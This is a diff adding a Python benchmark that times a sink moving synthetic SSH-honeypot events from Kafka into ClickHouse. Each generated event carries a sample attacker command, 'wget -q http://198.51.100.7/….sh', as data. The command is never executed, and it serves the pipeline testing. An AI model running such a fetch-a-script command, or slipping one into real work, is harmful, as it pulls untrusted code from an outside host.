@@ -1,0 +1,131 @@
+"""Events of about 200 bytes through Kafka into ClickHouse over HTTP, by the sink's own process: events per second.
+
+    .venv/bin/python -m bench.sink [--events 1000000] [--rounds 3] [--profile FILE]
+
+Starts an embedded broker and ClickHouse of its own. Each round publishes all events first, then starts a sink, so
+that publishing does not compete for the processors; the clock runs from the sink's first stored row to its last.
+"""
+
+import argparse
+import asyncio
+import os
+import signal
+import statistics
+import subprocess
+import sys
+import tempfile
+import time
+import uuid
+from pathlib import Path
+
+import clickhouse_connect
+import msgspec
+
+from producers.kafka.publisher import Publisher
+from schemas.settings import Settings
+from schemas.topics import EVENTS
+from tests.stack import embedded_stack
+
+
+def event_line(number: int, run: str) -> bytes:
+    """One event as a sensor writes it: about 200 bytes."""
+    return msgspec.json.encode(
+        {
+            "sensor": f"ssh-{number % 20}",
+            "time": 1_795_000_000 + number / 1000,
+            "kind": "command",
+            "session_id": f"{run}{number // 8:08x}",
+            "protocol": "ssh",
+            "client_ip": f"203.0.{number % 250}.{number % 199}",
+            "client_port": 1024 + number % 60_000,
+            "data": f"wget -q http://198.51.100.7/{number:08d}.sh",
+        }
+    )
+
+
+async def publish(settings: Settings, run: str, count: int) -> int:
+    partitions = settings.kafka.partitions
+    size = 0
+    async with Publisher(settings.kafka, linger_ms=0) as publisher:
+        for start in range(0, count, 20_000):
+            lines = [event_line(number, run) for number in range(start, min(start + 20_000, count))]
+            size += sum(map(len, lines))
+            futures = []
+            for partition in range(partitions):
+                futures += await publisher.send_batch(
+                    EVENTS, partition, [(None, line, ()) for line in lines[partition::partitions]]
+                )
+            await asyncio.gather(*futures)
+    return size // count
+
+
+def run_sink(settings: Settings, profile: str | None) -> "subprocess.Popen[bytes]":
+    environment = {
+        **os.environ,
+        "SOJOURN_KAFKA_BOOTSTRAP": settings.kafka.bootstrap,
+        "SOJOURN_CLICKHOUSE_URL": settings.clickhouse.url,
+        "SOJOURN_CLICKHOUSE_WRITER_PASSWORD": settings.clickhouse.writer_password,
+    }
+    code = "import sys; from schemas.settings import load; from stream_processors.sink import run_sink; "
+    body = "run_sink(load()[0])"
+    if profile:
+        body = f"import cProfile; cProfile.run({body!r}, {profile!r})"
+    return subprocess.Popen([sys.executable, "-c", code + body], env=environment)
+
+
+def measure(settings: Settings, count: int, profile: str | None) -> tuple[float, float]:
+    """Events per second from the first stored row to the last, and the sink's own processor seconds."""
+    client = clickhouse_connect.get_client(
+        dsn=settings.clickhouse.url, username="writer", password=settings.clickhouse.writer_password, database="sojourn"
+    )
+    client.command("TRUNCATE TABLE events")
+    run = uuid.uuid4().hex[:8]
+    size = asyncio.run(publish(settings, run, count))
+    sink = run_sink(settings, profile)
+    try:
+        first = None
+        before = 0
+        deadline = time.monotonic() + 120
+        while time.monotonic() < deadline:
+            stored = int(client.command("SELECT count() FROM events"))
+            now = time.monotonic()
+            if stored and first is None:
+                first, before = now, stored
+            if stored >= count:
+                break
+            time.sleep(0.02)
+        else:
+            raise TimeoutError(f"only {stored} of {count} events after 120 s")
+        assert first is not None
+        unique = int(client.command("SELECT uniqExact(_partition, _offset, _index) FROM events"))
+        parts = int(client.command("SELECT countDistinct(ingested_at, _partition) FROM events"))
+        seconds = now - first
+        used = sum(float(Path(f"/proc/{sink.pid}/stat").read_text().split()[field]) for field in (13, 14)) / 100
+        print(
+            f"  {count} events of {size} bytes, {unique} distinct, {parts} blocks: "
+            f"{(count - before) / seconds:,.0f}/s; "
+            f"the sink used {used:.2f} s of a processor ({used / count * 1e6:.2f} µs per event)"
+        )
+        return (count - before) / seconds, used
+    finally:
+        sink.send_signal(signal.SIGTERM)
+        sink.wait(10)
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--events", type=int, default=1_000_000)
+    parser.add_argument("--rounds", type=int, default=3)
+    parser.add_argument("--profile")
+    options = parser.parse_args()
+    rates = []
+    for number in range(options.rounds):
+        # A server of its own for each round: merges of the round before would count against the next.
+        with tempfile.TemporaryDirectory(prefix="sojourn-bench-") as folder, embedded_stack(Path(folder)) as stack:
+            print(f"round {number + 1}")
+            rates.append(measure(stack.settings, options.events, options.profile)[0])
+    print(f"median {statistics.median(rates):,.0f} events/s")
+
+
+if __name__ == "__main__":
+    main()
